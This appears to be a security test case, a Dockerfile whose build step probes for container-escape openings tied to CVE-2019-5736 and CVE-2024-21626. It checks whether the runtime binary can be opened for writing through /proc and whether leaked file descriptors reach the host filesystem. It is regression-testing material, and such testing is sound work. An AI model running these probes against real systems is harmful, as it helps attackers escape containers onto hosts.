# tries: the program of the runtime, through /proc/self/exe and the descriptors that it may have left open (CVE-2019-5736, CVE-2024-21626)
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN <<'ATTACK'
. /lib/hunt.sh
n=0
for pid in self 1 $(others); do
  n=$((n + 1))
  case $(readlink "/proc/$pid/exe") in *busybox | *attack | "") continue ;; esac
  (exec 9<>"/proc/$pid/exe") 2>/dev/null && echo "ESCAPED $(readlink "/proc/$pid/exe") can be written"
done
for fd in /proc/self/fd/* /proc/1/fd/*; do
  n=$((n + 1))
  [ -d "$fd/../../../../home/user" ] && echo "ESCAPED through $fd"
done
tried "$n"
ATTACK
